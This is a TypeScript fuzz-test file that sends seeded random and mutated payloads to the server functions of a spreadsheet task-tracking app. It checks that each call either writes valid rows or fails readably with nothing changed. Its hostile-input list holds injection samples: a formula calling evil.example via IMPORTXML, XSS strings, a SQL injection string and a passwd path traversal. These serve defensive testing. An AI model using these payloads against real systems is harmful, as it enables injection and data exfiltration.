// Fuzzing of the SPEC §5.1 server functions: seeded random and hostile payloads, and the checks every answer must pass.
import { describe, expect, it } from 'vitest';
import { type CellValue, isDateCell, type World } from '../../emulator/world';
import { formulaCells } from './hostile';
import { emulatorFor, sampleWorld, sheetState } from './project';

/** Deterministic random numbers (mulberry32), so a failure can be replayed from its seed. */
function rng(seed: number) {
  let s = seed >>> 0;
  const next = () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = Math.imul(s ^ (s >>> 15), s | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)]!;
  return { next, int, pick };
}
type Rng = ReturnType<typeof rng>;

const HOSTILE_STRINGS = [
  '',
  '   ',
  '=IMPORTXML("http://evil.example/","//a")',
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  "'=quoted",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"; DROP TABLE tasks; --',
  '../../etc/passwd',
  '产品迭代24-001',
  '产品迭代2024-001',
  '产品迭代2024-001-01',
  '产品迭代2024-999',
  '产品迭代2024-001-99',
  '路人甲',
  '*明',
  '*强',
  '2024-02-30',
  '2024-13-01',
  '2024-10-30',
  'yesterday',
  '\u0000\u0001',
  '\u202Eevil',
  '😀'.repeat(10),
  'x'.repeat(201),
  'y'.repeat(2001),
  'z'.repeat(100_000),
  '__proto__',
  'constructor',
];
const HOSTILE_VALUES: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  50,
  100,
  101,
  1e308,
  -0,
  [],
  {},
  [1, 2],
  { a: 1 },
  ['*明'],
  [null],
];

function hostileValue(r: Rng): unknown {
  return r.next() < 0.6 ? r.pick(HOSTILE_STRINGS) : r.pick(HOSTILE_VALUES);
}

/** Starts from a valid payload and breaks it in random ways (or leaves it valid). */
function mutate(r: Rng, base: Record<string, unknown>): unknown {
  const roll = r.next();
  if (roll < 0.04) return r.pick([null, 'string', 42, [], [base], true]);
  const payload: Record<string, unknown> = JSON.parse(JSON.stringify(base));
  if (roll < 0.12) return payload;
  const keys = Object.keys(payload);
  const edits = 1 + r.int(3);
  for (let i = 0; i < edits; i++) {
    const what = r.next();
    const key = r.pick(keys);
    if (what < 0.2) delete payload[key];
    else if (what < 0.85) payload[key] = hostileValue(r);
    else if (what < 0.93)
      payload[r.pick(['__proto__', 'constructor', 'extra', 'toString'])] = hostileValue(r);
    else if (Array.isArray(payload[key])) (payload[key] as unknown[]).push(hostileValue(r));
    else payload[key] = [hostileValue(r), hostileValue(r)];
  }
  return payload;
}

const VALID: Record<string, (r: Rng) => Record<string, unknown>> = {
  createTask: (r) => ({
    prefix: r.pick(['产品迭代', '日常协作', 'Launch', 'Q4报告']),
    name: r.pick(['客户调研', '=SUM(1)', '<b>粗体</b>', 'Quarterly review']),
    initiator: '*强',
    owner: r.pick(['*明', '*华', '*磊']),
    collaborators: r.pick([[], ['芳'], ['阳', '*峰']]),
    project: '提升客户复购率',
    type: r.pick(['project', 'routine', 'urgent']),
    priority: r.pick(['high', 'medium', 'low']),
    due: r.pick(['2024-10-30', '2024-11-15', '2025-01-01']),
    notes: '验收标准',
    subtasks: r.pick([[], [{ name: '子任务', owner: '*明', collaborators: [] }]]),
  }),
  updateProgress: (r) => ({
    subtaskId: r.pick(['产品迭代2024-001-01', '日常协作2024-015-01', '产品迭代2024-002-01']),
    progress: r.int(101),
    done: '完成了一部分',
    next: '继续',
    blockers: r.pick(['', '需要支持', '=HYPERLINK("x")']),
  }),
  addSyncRecord: (r) => ({
    date: '2024-10-24',
    topic: '同步',
    content: '<i>内容</i>',
    audience: '项目组全体',
    kind: r.pick(['progress', 'problem', 'decision', 'deliverable']),
    taskId: r.pick(['', '产品迭代2024-001', '日常协作2024-015']),
  }),
  submitForAcceptance: (r) => ({
    taskId: r.pick(['产品迭代2024-001', '日常协作2024-015', '产品迭代2024-002']),
  }),
  acceptTask: (r) => ({ taskId: r.pick(['日常协作2024-015', '产品迭代2024-001']), note: '好' }),
  rejectTask: (r) => ({ taskId: r.pick(['日常协作2024-015', '产品迭代2024-001']), reason: '缺少材料' }),
  cancelTask: (r) => ({ taskId: r.pick(['日常协作2024-015', '产品迭代2024-002']), reason: '不再需要' }),
  saveSettings: (r) => ({
    digestHour: r.int(24),
    maxSubtasks: 1 + r.int(3),
    calendar: r.pick(['cn', 'weekdays']),
  }),
  getSidebarModel: () => ({}),
  getSettings: () => ({}),
  recordRetrospective: (r) => ({
    taskId: r.pick(['紧急任务2024-003', '产品迭代2024-001', '日常协作2024-015']),
    text: r.pick(['预案需演练', '=IMPORTXML("x")', '<script>alert(1)</script>']),
  }),
  generateReview: (r) => ({
    from: r.pick(['2024-10-01', '2024-10-14', '2024-10-21']),
    to: r.pick(['2024-10-20', '2024-10-31', '2024-10-07']),
    email: r.pick([true, false]),
  }),
};

const USERS = [
  'qiang@example.com',
  'li@example.com',
  'ming@example.com',
  'lei@example.com',
  'stranger@example.org',
  '',
];
const PAYLOADS_PER_FUNCTION = 1000;
/** A thousand executions of the bundle take 10–40 s here; slower machines get room, as times are never asserted. */
const FUZZ_TIMEOUT_MS = 240_000;
/** Functions that take no input: they answer every payload (sent as an argument or not). */
const NO_INPUT = new Set(['getSidebarModel', 'getSettings']);
/** Functions whose successful calls add or change rows of the data sheets (so some rows must have been validated). */
const WRITES_ROWS = new Set([
  'createTask',
  'updateProgress',
  'addSyncRecord',
  'submitForAcceptance',
  'acceptTask',
  'rejectTask',
  'cancelTask',
  'recordRetrospective',
]);
/** A world is reused while calls fail (they must change nothing) and replaced after a few successes. */
const FRESH_AFTER_SUCCESSES = 25;

/** What a rejected call must leave untouched: the workbook, properties, triggers and mail. */
const state = (w: World) => JSON.stringify([w.spreadsheet, w.properties, w.triggers, w.outbox, w.locks]);

/** A readable error names something in words, not a JavaScript failure. */
function assertReadable(message: string, context: string): void {
  expect(message.length, context).toBeGreaterThan(1);
  expect(message.length, context).toBeLessThan(3000);
  expect(message, context).not.toMatch(
    /TypeError|ReferenceError|RangeError|SyntaxError|Cannot read|is not a function|undefined|\[object|NaN/,
  );
}

/** A task ID as SPEC §3 writes it in 2024 (the fuzz clock's year): prefix (1–20 characters, no whitespace, not ending in a digit or -), year, 3+ digits. */
const TASK_ID = /^\S{0,19}[^\s\d-]2024-\d{3,}$/u;
const SUBTASK_ID = /^(\S{0,19}[^\s\d-]2024-\d{3,})-\d{2}$/u;
const STATUSES = ['未开始', '进行中', '待验收', '已完成', '已取消'];
const TYPES = ['专项任务', '常规任务', '紧急任务'];
const PRIORITIES = ['高', '中', '低'];
const KINDS = ['进展', '问题', '决议', '交付'];
/** The data sheets whose rows a call may add or change, with archives (same columns plus 归档编号 and 归档时间). */
const DATA_SHEETS = ['部门任务总览表', '任务执行进度跟踪表', '信息同步共享记录表', '进度日志'].flatMap((s) =>
  s === '进度日志' ? [s] : [s, `归档-${s}`],
);

const isTaskId = (v: CellValue) => typeof v === 'string' && TASK_ID.test(v);
const isSubtaskId = (v: CellValue) => typeof v === 'string' && SUBTASK_ID.test(v);
const isPercent = (v: CellValue) => typeof v === 'number' && Number.isInteger(v) && v >= 0 && v <= 100;
const isDate = (v: CellValue) => isDateCell(v) && Number.isFinite(v.d) && v.d > 40_000 && v.d < 60_000;
const isText = (v: CellValue) => typeof v === 'string' && v.trim() !== '';

/** Problems of one row of a data sheet, checked column by column by header text (independently of the product). */
function rowProblems(headers: CellValue[], row: CellValue[], team: Set<string>): string[] {
  const cell = (h: string) => row[headers.indexOf(h)] ?? '';
  const has = (h: string) => headers.includes(h);
  const problems: string[] = [];
  const check = (h: string, ok: (v: CellValue) => boolean) => {
    if (has(h) && !ok(cell(h))) problems.push(`${h}=${JSON.stringify(cell(h))}`);
  };
  const status = cell('当前状态');
  check('任务ID', isTaskId);
  check('子任务ID', isSubtaskId);
  check('所属主任务ID', isTaskId);
  if (has('子任务ID') && has('所属主任务ID'))
    check('子任务ID', (v) => typeof v === 'string' && v.startsWith(`${cell('所属主任务ID')}-`));
  check('关联任务ID', (v) => v === '' || isTaskId(v));
  check('任务名称', isText);
  check('子任务名称', isText);
  check('同步主题', isText);
  check('同步内容(进展/问题/决议)', isText);
  check('负责人', (v) => typeof v === 'string' && team.has(v));
  check('当前状态', (v) => typeof v === 'string' && STATUSES.includes(v));
  check('任务类型', (v) => typeof v === 'string' && TYPES.includes(v));
  check('优先级', (v) => typeof v === 'string' && PRIORITIES.includes(v));
  check('记录类型', (v) => typeof v === 'string' && KINDS.includes(v));
  check('预期完成时间', isDate);
  check('同步日期', isDate);
  check('时间', isDate);
  check('归档时间', isDate);
  check('归档编号', isText);
  check('完成日期', (v) => (status === '已完成' || status === '已取消' ? isDate(v) : v === '' || isDate(v)));
  check('今日进度(%)', (v) => v === '' || isPercent(v));
  check('进度(%)', isPercent);
  check('更新日期', (v) => (cell('今日进度(%)') === '' ? v === '' || isDate(v) : isDate(v)));
  return problems;
}

/** The data sheets' rows as JSON, by sheet. */
function dataRows(w: World): Map<string, string[]> {
  const rows = new Map<string, string[]>();
  for (const s of w.spreadsheet.sheets)
    if (DATA_SHEETS.includes(s.name))
      rows.set(
        s.name,
        s.rows.map((r) => JSON.stringify(r)),
      );
  return rows;
}

/**
 * What a successful call must leave: no formula anywhere, and every data-sheet row it added or changed (a row not in
 * the sheet before) valid. Returns how many rows were checked.
 */
function assertValidData(before: Map<string, string[]>, w: World, context: string): number {
  expect(formulaCells(w), context).toEqual([]);
  const team = new Set(
    sheetState(w, '成员')
      .rows.slice(1)
      .map((r) => r[0])
      .filter((v): v is string => typeof v === 'string' && v !== ''),
  );
  let checked = 0;
  for (const [name, rows] of dataRows(w)) {
    const old = new Map<string, number>();
    for (const r of before.get(name) ?? []) old.set(r, (old.get(r) ?? 0) + 1);
    const headers = sheetState(w, name).rows[0] ?? [];
    rows.forEach((json, i) => {
      if (i === 0) return;
      const left = old.get(json) ?? 0;
      if (left > 0) {
        old.set(json, left - 1);
        return;
      }
      const row = JSON.parse(json) as CellValue[];
      if (row.every((v) => v === '')) return;
      checked++;
      expect(
        rowProblems(headers, row, team),
        `${context}: ${name} row ${i + 1} ${json.slice(0, 300)}`,
      ).toEqual([]);
    });
  }
  return checked;
}

/** The sample workbook plus 产品迭代2024-002 (owner *明, initiator *丽) in progress, so every action has a valid target. */
function fuzzWorld(): World {
  const world = sampleWorld();
  const emu = emulatorFor(world);
  emu.callOk(
    'createTask',
    [{ ...VALID.createTask!(rng(1)), prefix: '产品迭代', initiator: '*丽', owner: '*明', subtasks: [] }],
    'qiang@example.com',
  );
  emu.callOk('updateProgress', [{ subtaskId: '产品迭代2024-002-01', progress: 100 }], 'ming@example.com');
  return world;
}

/**
 * Sends the payloads to one function; returns how many calls succeeded and how many were refused, how many ran as an
 * execution of that function in the emulator (counted from the emulator's own execution records), and how many
 * added or changed data rows were validated.
 */
function fuzz(fn: string): { successes: number; refusals: number; executed: number; rowsChecked: number } {
  const r = rng(fn.length * 7919 + fn.charCodeAt(0));
  let world = fuzzWorld();
  let emu = emulatorFor(world);
  let sinceFresh = 0;
  let successes = 0;
  let refusals = 0;
  let executed = 0;
  let rowsChecked = 0;
  for (let i = 0; i < PAYLOADS_PER_FUNCTION; i++) {
    if (sinceFresh >= FRESH_AFTER_SUCCESSES) {
      world = fuzzWorld();
      emu = emulatorFor(world);
      sinceFresh = 0;
    }
    const payload = mutate(r, VALID[fn]!(r));
    const user = r.pick(USERS);
    const args = NO_INPUT.has(fn) ? (r.next() < 0.5 ? [] : [payload]) : [payload];
    const before = state(world);
    const beforeRows = dataRows(world);
    const lastExec = world.executions.at(-1)?.exec;
    const res = emu.call(fn, args, user, { rpc: true });
    const context = `${fn} #${i} as "${user}": ${JSON.stringify(payload).slice(0, 300)}`;
    const exec = world.executions.at(-1);
    if (exec && exec.exec !== lastExec && exec.fn === fn) executed++;
    if (res.ok) {
      successes++;
      sinceFresh++;
      expect(JSON.stringify(res.result), context).not.toContain('"__proto__"');
      rowsChecked += assertValidData(beforeRows, world, context);
    } else {
      refusals++;
      assertReadable(res.error!.message, context);
      expect(state(world), context).toBe(before);
    }
  }
  return { successes, refusals, executed, rowsChecked };
}

/**
 * One test per function: every payload succeeds or is refused readably with nothing changed, and the payloads reach
 * both outcomes (only a function without input may accept them all).
 */
export function describeFuzzing(fns: readonly string[]): void {
  describe.each(fns)('fuzzing %s', (fn) => {
    it(
      `answers ${PAYLOADS_PER_FUNCTION} random and hostile payloads with success or a readable error`,
      () => {
        const { successes, refusals, executed, rowsChecked } = fuzz(fn);
        expect(executed).toBe(PAYLOADS_PER_FUNCTION);
        if (!NO_INPUT.has(fn)) expect(refusals).toBeGreaterThan(0);
        expect(successes).toBeGreaterThan(0);
        if (WRITES_ROWS.has(fn)) expect(rowsChecked).toBeGreaterThan(0);
      },
      FUZZ_TIMEOUT_MS,
    );
  });
}
